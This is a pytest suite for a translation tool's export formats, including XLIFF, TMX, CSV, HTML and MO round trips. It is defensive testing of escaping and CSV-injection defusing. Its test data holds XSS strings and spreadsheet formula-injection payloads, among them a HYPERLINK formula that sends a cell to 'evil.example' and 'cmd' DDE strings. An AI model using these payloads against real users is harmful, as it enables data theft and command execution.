"""Export formats written and read back: XLIFF 1.2 (schema-valid), XLIFF 2.0, TMX, CSV, HTML,
MO (loaded by Python's gettext) and the translated text document."""

from __future__ import annotations

import csv
import gettext
import io
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from conftest import DATA
from workbench.catalogs import load_document
from workbench.errors import InputError
from workbench.formats import Document, export_catalog
from workbench.formats._xml import check_chars
from workbench.formats.csvfmt import write_csv
from workbench.formats.html import write_html
from workbench.formats.mo import write_mo
from workbench.formats.po import default_header, format_po, parse_po, read_po
from workbench.formats.text import render_text
from workbench.formats.tmx import read_tmx, write_tmx
from workbench.formats.xliff import read_xliff, write_xliff, write_xliff2
from workbench.model import Catalog, State, Unit
from workbench.segment import segment_text
from workbench.textio import read_text

FORMATS_DATA = DATA / "formats"
HOSTILE = "<script>alert('x')</script> & \"quotes\" ]]> <!-- -->"


def sample_catalog(target: str = "en") -> Catalog:
    """Every state and every field a unit has, with text hostile to XML and HTML."""
    units = [
        Unit("a1", "第一句。", "First sentence.", State.TRANSLATED, comments=["checked by Li"],
             auto_comments=["paragraph 1, sentence 1"], locations=[("seeds/doc.txt", 1)]),
        Unit("a2", HOSTILE, "<b>bold</b> & co", State.FUZZY, previous_source="old <src> &",
             flags=["python-format"], locations=[("seeds/doc.txt", 2)]),
        Unit("a3", "  leading and trailing  ", "", State.UNTRANSLATED,
             auto_comments=["paragraph 2, sentence 1"]),
        Unit("a4", "line\nbreak\r\nand\ttab", "ligne\r\ncassée", State.TRANSLATED),
        Unit("a4.2", "line\nbreak\r\nand\ttab", "", State.UNTRANSLATED),
        Unit("old", "舊句子。", "Old sentence.", State.TRANSLATED, obsolete=True),
    ]
    header = default_header("zh-Hant", target, "doc")
    return Catalog(units, "zh-Hant", target, header, "test catalog")


def fields(unit: Unit) -> tuple[object, ...]:
    return (unit.id, unit.source, unit.target, unit.state, unit.comments, unit.auto_comments,
            unit.locations, unit.previous_source, unit.flags)


# --- XLIFF 1.2 -----------------------------------------------------------------------------

def test_xliff12_is_valid_against_the_strict_schema(xliff_schema: etree.XMLSchema) -> None:
    data = write_xliff(sample_catalog(), original="locale/en/LC_MESSAGES/doc.po")
    doc = etree.fromstring(data)
    assert xliff_schema.validate(doc), xliff_schema.error_log
    ns = {"x": "urn:oasis:names:tc:xliff:document:1.2"}
    file = doc.find("x:file", ns)
    assert file.get("source-language") == "zh-Hant" and file.get("target-language") == "en"
    assert len(doc.findall(".//x:trans-unit", ns)) == 5  # the obsolete unit is not exported


def test_schema_validation_catches_an_invalid_file(xliff_schema: etree.XMLSchema) -> None:
    """The test above can fail: a file with a misplaced element is rejected."""
    data = write_xliff(sample_catalog()).replace(b"<header>", b"<body/><header>", 1)
    assert not xliff_schema.validate(etree.fromstring(data))


def test_seed_catalog_xliff_validates(xliff_schema: etree.XMLSchema, project_dir: Path) -> None:
    from workbench.catalogs import template_for
    from workbench.project import find_project

    project = find_project(project_dir, explicit=True)
    catalog = template_for(project, project.documents()[0], "zh-Hans")
    assert xliff_schema.validate(etree.fromstring(write_xliff(catalog)))


def test_xliff12_round_trip_keeps_every_field() -> None:
    catalog = sample_catalog()
    back = read_xliff(write_xliff(catalog, original="x.po"), "x.xlf")
    assert back.original == "x.po"
    assert (back.catalog.source_lang, back.catalog.target_lang) == ("zh-Hant", "en")
    assert [fields(u) for u in back.catalog.units] == [fields(u) for u in catalog.active]


def test_xliff2_round_trip_keeps_every_field() -> None:
    catalog = sample_catalog()
    catalog.units[0].id = "an id with spaces"  # not an NMTOKEN: kept in unit/@name
    data = write_xliff2(catalog, original="x.po")
    assert b'version="2.0"' in data and b'srcLang="zh-Hant"' in data and b'trgLang="en"' in data
    back = read_xliff(data, "x.xliff")
    assert back.format == "xliff2"
    assert [fields(u) for u in back.catalog.units] == [fields(u) for u in catalog.active]


def test_carriage_return_survives_xml() -> None:
    data = write_xliff(sample_catalog())
    assert b"&#13;" in data
    unit = read_xliff(data, "x.xlf").catalog.units[3]
    assert unit.source == "line\nbreak\r\nand\ttab"


def test_control_characters_travel_as_inline_codes(xliff_schema: etree.XMLSchema) -> None:
    """A form feed (accepted by `init`) cannot be written in XML 1.0, not even as `&#xC;`:
    XLIFF 2.0 has <cp hex="000C"/>, XLIFF 1.2 a placeholder <x ctype="x-codepoint-000C"/>
    (valid against the strict schema), TMX a <ph type="x-codepoint-000C"/>."""
    catalog = sample_catalog()
    catalog.units[0].source = "第一\f頁\f。"
    catalog.units[0].target = "Page\fone."
    data12 = write_xliff(catalog)
    assert xliff_schema.validate(etree.fromstring(data12)), xliff_schema.error_log
    assert b'<x id="cp1" ctype="x-codepoint-000C"/>' in data12 and b"\x0c" not in data12
    data20 = write_xliff2(catalog)
    assert b'<cp hex="000C"/>' in data20 and b"\x0c" not in data20
    data_tmx = write_tmx(catalog)
    assert b'type="x-codepoint-000C"' in data_tmx and b"\x0c" not in data_tmx
    for data in (data12, data20):
        etree.fromstring(data)  # well-formed
        assert [fields(u) for u in read_xliff(data, "x").catalog.units] == \
            [fields(u) for u in catalog.active]
    unit = read_tmx(data_tmx, "x.tmx").catalog.units[0]
    assert (unit.source, unit.target) == ("第一\f頁\f。", "Page\fone.")


def test_a_character_xml_cannot_hold_outside_the_text_is_a_clear_error() -> None:
    """In a note or an attribute there is no inline code: a clear error naming the unit."""
    catalog = sample_catalog()
    catalog.units[0].comments = ["bell\x07"]
    for write in (write_xliff, write_xliff2, write_tmx):
        with pytest.raises(InputError, match="unit a1: character U\\+0007"):
            write(catalog)
    assert check_chars("fine\t\n\r", "x") == "fine\t\n\r"


def test_foreign_character_codes_are_checked() -> None:
    data = ('<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="zh" '
            'trgLang="en"><file id="f"><unit id="u"><segment><source>a<cp hex="{}"/></source>'
            "</segment></unit></file></xliff>")
    assert read_xliff(data.format("1F600").encode(), "x").catalog.units[0].source == "a😀"
    for bad in ("0", "D800", "110000", "xyz", ""):
        with pytest.raises(InputError, match="invalid character code"):
            read_xliff(data.format(bad).encode(), "x")


# --- TMX ------------------------------------------------------------------------------------

def test_tmx_languages_and_only_translated_units(tmp_path: Path) -> None:
    catalog = sample_catalog("zh-Hans")
    out = tmp_path / "doc.tmx"
    data = write_tmx(catalog, out, original="locale/zh_Hans/LC_MESSAGES/doc.po")
    assert out.read_bytes() == data
    root = etree.fromstring(data)
    assert root.get("version") == "1.4"
    assert root.find("header").get("srclang") == "zh-Hant"
    tus = root.findall("body/tu")
    assert [tu.get("tuid") for tu in tus] == ["a1", "a4"]  # fuzzy, untranslated, obsolete out
    xml_lang = "{http://www.w3.org/XML/1998/namespace}lang"
    for tu in tus:
        assert [tuv.get(xml_lang) for tuv in tu.findall("tuv")] == ["zh-Hant", "zh-Hans"]
    back = read_tmx(data, out)
    assert back.original == "locale/zh_Hans/LC_MESSAGES/doc.po"
    assert back.catalog.target_lang == "zh-Hans"
    assert [(u.id, u.source, u.target, u.comments, u.locations) for u in back.catalog.units] \
        == [(u.id, u.source, u.target, u.comments, u.locations) for u in catalog.units
            if u.state is State.TRANSLATED and not u.obsolete]


def test_tmx_obsolete_translations_on_request() -> None:
    data = write_tmx(sample_catalog(), include_obsolete=True)
    assert [u.id for u in read_tmx(data, "x.tmx").catalog.units] == ["a1", "a4", "old"]


def test_tmx_needs_both_languages() -> None:
    catalog = sample_catalog()
    catalog.target_lang = ""
    with pytest.raises(InputError, match="target"):
        write_tmx(catalog)


def test_tmx_of_aligned_pairs() -> None:
    """The alignment helper's use: pairs as translated units, no file written."""
    pairs = Catalog([Unit(f"p{i}", zh, en, State.TRANSLATED) for i, (zh, en) in
                     enumerate([("你好。", "Hello."), ("再見。", "Goodbye.")])], "zh-Hans", "en")
    back = read_tmx(write_tmx(pairs), "pairs.tmx")
    assert [(u.source, u.target) for u in back.catalog.units] == [("你好。", "Hello."),
                                                                   ("再見。", "Goodbye.")]


# --- CSV and HTML ---------------------------------------------------------------------------

def test_csv_rows_read_back() -> None:
    catalog = sample_catalog()
    data = write_csv(catalog)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["id", "source", "target", "state"]
    assert rows[1:] == [[u.id, u.source, u.target, u.state.label] for u in catalog.active]
    with_obsolete = list(csv.reader(io.StringIO(write_csv(catalog, True).decode("utf-8-sig"),
                                                newline="")))
    assert with_obsolete[-1] == ["old", "舊句子。", "Old sentence.", "obsolete"]


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("- item", "'- item"),
    ("-5°C", "-5°C"),  # a minus before a plain number is text, kept as it is
    ("-3.5 % to -4 %", "-3.5 % to -4 %"),
    ("-", "-"),
    ("a = b + c", "a = b + c"),
    ("＝全形", "＝全形"),
])
def test_csv_defuses_formulas(cell: str, written: str) -> None:
    """OWASP's CSV-injection advice: a cell a spreadsheet would run gets a leading quote."""
    catalog = Catalog([Unit("f1", cell, cell, State.TRANSLATED)], "zh-Hant", "en")
    rows = list(csv.reader(io.StringIO(write_csv(catalog).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["f1", written, written, "translated"]


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.cells: list[str] = []
        self._in_td = False

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.tags.append(tag)
        if tag == "td":
            self._in_td = True
            self.cells.append("")

    def handle_endtag(self, tag):  # type: ignore[no-untyped-def]
        if tag == "td":
            self._in_td = False

    def handle_data(self, data):  # type: ignore[no-untyped-def]
        if self._in_td:
            self.cells[-1] += data


def test_html_escapes_everything() -> None:
    catalog = sample_catalog()
    catalog.units[0].id = '"><script>alert(1)</script>'
    page = write_html(catalog, title="<script>t</script>").decode("utf-8")
    parsed = _Collect()
    parsed.feed(page)
    assert "script" not in parsed.tags  # no element comes from the catalog's text
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert HOSTILE in parsed.cells  # and the text reads back exactly
    assert "<b>bold</b> & co" in parsed.cells and "b" not in parsed.tags
    assert "Content-Security-Policy" in page and "<link" not in page  # self-contained
    assert 'lang="zh-Hant"' in page and 'lang="en"' in page


# --- MO -------------------------------------------------------------------------------------

def test_mo_loads_in_gettext_with_the_locale_layout(tmp_path: Path) -> None:
    catalog = sample_catalog()
    mo = tmp_path / "locale" / "en" / "LC_MESSAGES" / "doc.mo"
    mo.parent.mkdir(parents=True)
    mo.write_bytes(write_mo(catalog))
    t = gettext.translation("doc", localedir=tmp_path / "locale", languages=["en"])
    assert t.pgettext("a1", "第一句。") == "First sentence."
    assert t.pgettext("a4", "line\nbreak\r\nand\ttab") == "ligne\r\ncassée"
    assert t.pgettext("a2", HOSTILE) == HOSTILE  # fuzzy: left out, as msgfmt does
    assert t.pgettext("old", "舊句子。") == "舊句子。"  # obsolete: left out
    assert t.info()["language"] == "en"


@pytest.mark.skipif(shutil.which("msgfmt") is None, reason="needs GNU msgfmt")
def test_mo_translates_like_msgfmt(tmp_path: Path) -> None:
    catalog = read_po(FORMATS_DATA / "small.en.po")
    ours, theirs = tmp_path / "ours" / "en" / "LC_MESSAGES", tmp_path / "theirs" / "en" / \
        "LC_MESSAGES"
    ours.mkdir(parents=True)
    theirs.mkdir(parents=True)
    (ours / "small.mo").write_bytes(write_mo(catalog))
    subprocess.run(["msgfmt", "--check", "-o", str(theirs / "small.mo"),
                    str(FORMATS_DATA / "small.en.po")], check=True)
    a = gettext.translation("small", tmp_path / "ours", ["en"])
    b = gettext.translation("small", tmp_path / "theirs", ["en"])
    for unit in catalog.units:
        assert a.pgettext(unit.id, unit.source) == b.pgettext(unit.id, unit.source) \
            == unit.target


# --- the translated document ----------------------------------------------------------------

def _catalog_for(path: Path, lang: str, target: str = "en") -> tuple[Catalog, Document]:
    from workbench.msgmerge import units_from_segments

    decoded = read_text(path)
    segmented = segment_text(decoded.text, lang)
    catalog = Catalog(units_from_segments(segmented, path.name), lang, target)
    return catalog, Document(segmented, decoded)


@pytest.mark.parametrize("name", ["crlf.txt", "utf8-bom.txt", "utf16le-bom.txt",
                                  "utf16be-bom.txt", "gb18030.txt", "big5.txt"])
def test_untranslated_txt_is_the_source_byte_for_byte(name: str) -> None:
    path = DATA / "core" / name
    catalog, document = _catalog_for(path, "zh-Hant")
    assert export_catalog(catalog, "txt", document=document).data == path.read_bytes()


def test_untranslated_seed_is_the_seed_byte_for_byte(project_dir: Path) -> None:
    seed = next((project_dir / "seeds").iterdir())
    catalog, document = _catalog_for(seed, "zh-Hant")
    assert export_catalog(catalog, "txt", document=document).data == seed.read_bytes()


@pytest.mark.parametrize("lang", ["en", "zh-Hans"])
def test_translated_txt_matches_the_hand_checked_file(lang: str) -> None:
    catalog = read_po(FORMATS_DATA / f"small.{lang}.po")
    decoded = read_text(FORMATS_DATA / "small.txt")
    document = Document(load_document(FORMATS_DATA / "small.txt", "zh-Hant"), decoded)
    data = export_catalog(catalog, "txt", document=document).data
    assert data == (FORMATS_DATA / f"small.{lang}.expected.txt").read_bytes()


def test_txt_untranslated_units_fall_back_or_are_marked() -> None:
    catalog = read_po(FORMATS_DATA / "small.en.po")
    catalog.units[2].set_target("", None)  # 各單位應當認真執行！
    catalog.units[3].state = State.FUZZY  # 有問題嗎？ -> "Any questions?" unreviewed
    segmented = load_document(FORMATS_DATA / "small.txt", "zh-Hant")
    line = render_text(catalog, segmented, "source").text.splitlines()[2]
    assert line == ("\u3000\u3000These measures take effect on the date of publication. "
                    "各單位應當認真執行！有問題嗎？")
    marked = render_text(catalog, segmented, "mark")
    assert marked.text.splitlines()[2] == (
        "\u3000\u3000These measures take effect on the date of publication. "
        "[UNTRANSLATED: 各單位應當認真執行！] [FUZZY: Any questions?]")
    assert (marked.translated, marked.fallback, marked.missing) == (4, 2, 0)


def test_txt_counts_sentences_missing_from_an_old_catalog() -> None:
    catalog = read_po(FORMATS_DATA / "small.en.po")
    segmented = segment_text("第一章\u3000總則\n新的一句。\n", "zh-Hant")
    rendered = render_text(catalog, segmented)
    assert rendered.text == "Chapter 1 General Provisions\n新的一句。\n"
    assert rendered.missing == 1


def test_txt_big5_source_with_simplified_target_falls_back_to_utf8() -> None:
    path = DATA / "core" / "big5.txt"
    catalog, document = _catalog_for(path, "zh-Hant", "zh-Hans")
    for unit in catalog.units:
        unit.set_target("这是简体" + unit.source, State.TRANSLATED)
    exported = export_catalog(catalog, "txt", document=document)
    assert "这是简体" in exported.data.decode("utf-8")
    assert any("UTF-8" in note for note in exported.notes)


# --- properties -----------------------------------------------------------------------------

_xml_char = st.characters(codec="utf-8").filter(
    lambda c: c in "\t\n\r" or not (c < " " or c in "\ufffe\uffff"))
_text = st.text(_xml_char, min_size=1, max_size=30)
# Sentences may hold control characters XML cannot (a form feed): inline codes carry them.
_content = st.text(_xml_char | st.sampled_from("\x0b\x0c\x01\x1f\ufffe"), min_size=1,
                   max_size=30)
_line = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
                min_size=1, max_size=20).map(str.strip).filter(bool)


@st.composite
def catalogs(draw: st.DrawFn) -> Catalog:
    ids = draw(st.lists(st.from_regex(r"[0-9a-f]{12}(\.[2-9])?", fullmatch=True),
                        min_size=1, max_size=8, unique=True))
    units = []
    for uid in ids:
        state = draw(st.sampled_from(State))
        target = draw(_content) if state is not State.UNTRANSLATED else ""
        units.append(Unit(
            id=uid, source=draw(_content), target=target, state=state,
            comments=draw(st.lists(_line, max_size=2)),
            auto_comments=draw(st.lists(_line, max_size=2)),
            locations=draw(st.lists(st.tuples(st.from_regex(r"[a-z]{1,8}/[a-z]{1,8}\.txt",
                                                             fullmatch=True),
                                              st.integers(1, 10_000)), max_size=2)),
            previous_source=draw(st.none() | _text) if state is State.FUZZY else None,
            flags=draw(st.lists(st.sampled_from(["python-format", "no-wrap"]), unique=True)),
        ))
    return Catalog(units, "zh-Hant", draw(st.sampled_from(["en", "zh-Hans"])))


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(catalogs())
def test_property_po_xliff_xliff2_round_trips(catalog: Catalog) -> None:
    want = [fields(u) for u in catalog.units]
    catalog.header = default_header(catalog.source_lang, catalog.target_lang)
    assert [fields(u) for u in parse_po(format_po(catalog)).units] == want
    assert [fields(u) for u in read_xliff(write_xliff(catalog), "x").catalog.units] == want
    assert [fields(u) for u in read_xliff(write_xliff2(catalog), "x").catalog.units] == want
    translated = [(u.id, u.source, u.target) for u in catalog.units
                  if u.state is State.TRANSLATED]
    assert [(u.id, u.source, u.target) for u in read_tmx(write_tmx(catalog), "x").catalog.units
            ] == translated


_doc_char = st.sampled_from([*"天地人。！？，「」 \u3000\t\n\rabc.?!\"'", "\r\n", "……"])


@settings(max_examples=150, deadline=None)
@given(st.lists(_doc_char, min_size=1, max_size=60).map("".join), st.sampled_from(["en",
                                                                                     "zh-Hans"]))
def test_property_txt_keeps_the_layout(text: str, target: str) -> None:
    """Untranslated: the source exactly. Translated: the same lines, sentences joined the
    target language's way (a Chinese target of a Chinese source keeps the source's spacing)."""
    from workbench.formats.text import _is_layout
    from workbench.msgmerge import units_from_segments

    segmented = segment_text(text, "zh-Hant")
    catalog = Catalog(units_from_segments(segmented, "d.txt"), "zh-Hant", target)
    assert render_text(catalog, segmented).text == text
    for unit in catalog.units:
        unit.set_target("T", State.TRANSLATED)
    translated = render_text(catalog, segmented).text
    expected = segmented.blank + "".join(
        seg.before + "T" + (seg.after if i + 1 == len(segmented.segments) or
                            segmented.segments[i + 1].paragraph != seg.paragraph
                            or _is_layout(seg.after) or target == "zh-Hans" else " ")
        for i, seg in enumerate(segmented.segments))
    assert translated == expected
    assert (translated.count("\n"), translated.count("\r")) == (text.count("\n"),
                                                                 text.count("\r"))


def test_po_export_drops_obsolete_unless_asked() -> None:
    catalog = sample_catalog()
    plain = parse_po(export_catalog(catalog, "po").data.decode())
    assert [u.id for u in plain.units] == ["a1", "a2", "a3", "a4", "a4.2"]
    full = parse_po(export_catalog(catalog, "po", include_obsolete=True).data.decode())
    assert [fields(u) for u in full.units] == [fields(u) for u in catalog.units]
    assert full.units[-1].obsolete


def test_mo_of_a_catalog_without_header_still_decodes_utf8() -> None:
    catalog = Catalog([Unit("k", "中文。", "English.", State.TRANSLATED),
                       Unit("p", "一個", "one", State.TRANSLATED, source_plural="多個",
                            target_plurals=["many"], has_context=False)], "zh-Hant", "en")
    t = gettext.GNUTranslations(io.BytesIO(write_mo(catalog)))
    assert t.pgettext("k", "中文。") == "English."
    assert (t.ngettext("一個", "多個", 1), t.ngettext("一個", "多個", 5)) == ("one", "many")


PLURAL_PO = r'''msgid ""
msgstr ""
"Language: {lang}\n"
"Content-Type: text/plain; charset=UTF-8\n"
"Plural-Forms: {forms}\n"
"X-Source-Language: zh-Hant\n"

#. from another tool's catalog
#, fuzzy
msgid "一個檔案"
msgid_plural "%d 個檔案"
{msgstr}

msgid "其他"
msgstr "{other}"
'''


@pytest.mark.parametrize("lang, forms, msgstr, other", [
    ("en", "nplurals=2; plural=(n != 1);", 'msgstr[0] "one file"\nmsgstr[1] "%d files"', "other"),
    ("zh_Hans", "nplurals=1; plural=0;", 'msgstr[0] "%d 个文件"', "其他"),
    ("en", "nplurals=2; plural=(n != 1);", 'msgstr[0] ""\nmsgstr[1] ""', ""),
])
@pytest.mark.parametrize("version", ["1.2", "2.0"])
def test_plural_entries_survive_xliff(xliff_schema: etree.XMLSchema, lang: str, forms: str,
                                      msgstr: str, other: str, version: str) -> None:
    from workbench.import_merge import merge_import

    catalog = parse_po(PLURAL_PO.format(lang=lang, forms=forms, msgstr=msgstr, other=other))
    if version == "1.2":
        data = write_xliff(catalog)
        assert xliff_schema.validate(etree.fromstring(data)), xliff_schema.error_log
    else:  # 2.0: a <group type="x-gettext:plurals">, one unit per form
        data = write_xliff2(catalog)
        assert b'type="x-gettext:plurals"' in data
    back = read_xliff(data, "x").catalog
    plural = [(u.source_plural, u.target_plurals) for u in back.units]
    assert [fields(u) for u in back.units] == [fields(u) for u in catalog.units]
    assert plural == [(u.source_plural, u.target_plurals) for u in catalog.units]
    merged = parse_po(PLURAL_PO.format(lang=lang, forms=forms, other="",
                                       msgstr=msgstr.replace("one file", "").replace(
                                           "%d files", "").replace("%d 个文件", "")))
    assert all(not u.target and not any(u.target_plurals) for u in merged.units)
    merge_import(merged, back)
    assert format_po(merged) == format_po(catalog)


@pytest.mark.parametrize("writer", [write_xliff, write_xliff2, write_tmx])
def test_translated_plural_entry_round_trips_every_form(writer) -> None:  # type: ignore[no-untyped-def]
    """QA r3b: an xliff2 export imported back left `msgstr[1] ""` in a translated unit."""
    from workbench.import_merge import merge_import

    po = PLURAL_PO.format(lang="de", forms="nplurals=2; plural=(n != 1);", other="anderes",
                          msgstr='msgstr[0] "eine Datei"\nmsgstr[1] "%d Dateien"'
                          ).replace("#, fuzzy\n", "")
    catalog = parse_po(po)
    assert catalog.units[0].state is State.TRANSLATED
    empty = parse_po(po.replace('"eine Datei"', '""').replace('"%d Dateien"', '""')
                     .replace('"anderes"', '""'))
    back = (read_tmx if writer is write_tmx else read_xliff)(writer(catalog), "x").catalog
    report = merge_import(empty, back)
    assert (empty.units[0].target, empty.units[0].target_plurals, empty.units[0].state) == (
        "eine Datei", ["%d Dateien"], State.TRANSLATED)
    assert report.filled == 2 and not report.not_found


def test_a_file_without_the_plural_forms_leaves_the_entry_fuzzy() -> None:
    """Another tool's memory holds the singular only: the entry is not done."""
    from workbench.import_merge import merge_import

    empty = parse_po(PLURAL_PO.format(lang="de", forms="nplurals=2; plural=(n != 1);",
                                      other="", msgstr='msgstr[0] ""\nmsgstr[1] ""'))
    singular_only = Catalog([Unit("", "一個檔案", "eine Datei", State.TRANSLATED)], "zh-Hant", "de")
    merge_import(empty, singular_only)
    unit = empty.units[0]
    assert (unit.target, unit.target_plurals, unit.state) == ("eine Datei", [""], State.FUZZY)


def test_txt_keeps_tabs_between_sentences() -> None:
    from workbench.msgmerge import units_from_segments

    text = "特點\t說明\n防水。\t可在雨中使用。\n"
    segmented = segment_text(text, "zh-Hant")
    catalog = Catalog(units_from_segments(segmented, "d.txt"), "zh-Hant", "en")
    for unit, target in zip(catalog.units, ["Feature\tDescription", "Waterproof.",
                                            "Can be used in the rain."], strict=True):
        unit.set_target(target, State.TRANSLATED)
    assert render_text(catalog, segmented).text == \
        "Feature\tDescription\nWaterproof.\tCan be used in the rain.\n"
